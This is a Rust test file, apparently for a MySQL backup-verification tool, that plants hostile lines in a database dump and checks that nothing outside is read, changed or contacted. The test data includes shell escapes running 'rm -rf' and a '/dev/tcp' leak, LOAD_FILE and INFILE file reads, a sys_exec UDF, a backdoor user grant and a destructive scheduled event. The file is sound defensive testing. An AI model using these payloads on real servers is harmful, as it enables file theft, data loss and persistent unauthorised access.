//! Dumps that are hostile code: nothing leaves, nothing outside is touched, nothing passes that
//! differs from its capture.

use std::fs;
use std::net::TcpListener;
use std::path::PathBuf;

use lifeboat::check::Outcome;

use crate::bench::{Captured, start};
use crate::engine::SHOP;

struct Trap {
    folder: tempfile::TempDir,
    listener: TcpListener,
}

impl Trap {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join("canary"), "canary-word").unwrap();
        let open = std::os::unix::fs::PermissionsExt::from_mode(0o777);
        fs::set_permissions(folder.path(), open).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self { folder, listener }
    }

    fn canary(&self) -> PathBuf {
        self.folder.path().join("canary")
    }

    /// What a hostile script does wherever it gets to run.
    fn deeds(&self) -> String {
        let (canary, port) = (self.canary(), self.listener.local_addr().unwrap().port());
        let canary = canary.display();
        format!(
            "id > {canary}; rm -rf {canary}; touch {canary}.was-here; \
             (echo leak > /dev/tcp/127.0.0.1/{port}) 2>/dev/null"
        )
    }

    fn assert_untouched(&self) {
        let left: Vec<_> = fs::read_dir(self.folder.path()).unwrap().flatten().collect();
        assert_eq!(left.len(), 1, "{left:?}");
        assert_eq!(fs::read(self.canary()).unwrap(), b"canary-word");
        assert!(self.listener.accept().is_err(), "somebody called home");
    }
}

#[test]
fn what_a_hostile_dump_tells_the_client_or_the_server_reaches_nothing() {
    let trap = Trap::new();
    let (deeds, canary) = (trap.deeds(), trap.canary());
    let (canary, port) = (canary.display(), trap.listener.local_addr().unwrap().port());
    let server = start();
    server.sql(SHOP);
    let captured = Captured::of(&server);
    drop(server);
    let dump = captured.dump("shop");
    let honest = fs::read_to_string(&dump).unwrap();
    let body = honest.split_once("USE `shop`;\n").unwrap();
    for (hostile, must_differ) in [
        (format!("\\! bash -c '{deeds}'\n"), false),
        (format!("system bash -c '{deeds}'\n"), false),
        (format!("tee {canary}\n"), false),
        (format!("pager bash -c '{deeds}'\n"), false),
        (format!("source {canary}\n"), false),
        (format!("\\. {canary}\n"), false),
        (format!("connect mysql 127.0.0.1\n\\r mysql 127.0.0.1:{port}\n"), true),
        (
            format!(
                "CREATE TABLE stolen (a TEXT); LOAD DATA LOCAL INFILE '{canary}' INTO TABLE stolen;\n"
            ),
            true,
        ),
        (
            format!(
                "CREATE TABLE stolen (a TEXT); LOAD DATA INFILE '{canary}' INTO TABLE stolen;\n"
            ),
            true,
        ),
        (format!("SELECT LOAD_FILE('{canary}') INTO OUTFILE '{canary}.was-here';\n"), false),
        (format!("CREATE TABLE stolen AS SELECT LOAD_FILE('{canary}') AS a;\n"), true),
        ("CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so';\n".to_owned(), false),
        ("CREATE USER intruder@'%'; GRANT ALL ON *.* TO intruder@'%';\n".to_owned(), true),
        (
            "SET GLOBAL event_scheduler = ON;
             CREATE EVENT evil ON SCHEDULE EVERY 1 SECOND DO DELETE FROM shop.orders LIMIT 1;\n"
                .to_owned(),
            true,
        ),
        (
            format!("CHANGE MASTER TO MASTER_HOST='127.0.0.1', MASTER_PORT={port}; START SLAVE;\n"),
            false,
        ),
        ("\\q\n".to_owned(), true),
    ] {
        fs::write(&dump, format!("{}USE `shop`;\n{hostile}{}", body.0, body.1)).unwrap();

        let outcome = captured.judged();

        trap.assert_untouched();
        let passes = matches!(outcome, Outcome::Held { .. });
        assert!(!(must_differ && passes), "{hostile}: {outcome:?}");
        assert!(!format!("{outcome:?}").contains("canary-word"), "{outcome:?}");
    }
}

#[test]
fn definers_triggers_and_functions_act_on_nothing_outside_and_what_they_change_is_seen() {
    let trap = Trap::new();
    let server = start();
    server.sql(SHOP);
    server.sql(
        "USE shop; CREATE TABLE victim (a INT); INSERT INTO victim VALUES (1), (2);
         CREATE DEFINER=nobody@nowhere SQL SECURITY DEFINER VIEW absent AS SELECT a FROM victim;
         CREATE DEFINER=root@localhost FUNCTION evil(a INT) RETURNS INT NO SQL
           RETURN a + 1;
         CREATE TABLE made (a INT, b INT DEFAULT 1);",
    );
    let captured = Captured::of(&server);
    drop(server);
    let honest = format!("{:?}", captured.judged());
    assert!(honest.contains("Held"), "{honest}");
    let dump = captured.dump("shop");
    let text = fs::read_to_string(&dump).unwrap();
    let changed = text.replace(
        "DROP TABLE IF EXISTS `victim`;",
        "DELETE FROM `orders` WHERE id = 7;\nDROP TABLE IF EXISTS `victim`;",
    );
    assert_ne!(text, changed);
    fs::write(&dump, changed).unwrap();

    let found = crate::bench::places(&captured.judged());

    assert_eq!(found, ["shop: table orders"]);
    trap.assert_untouched();
}
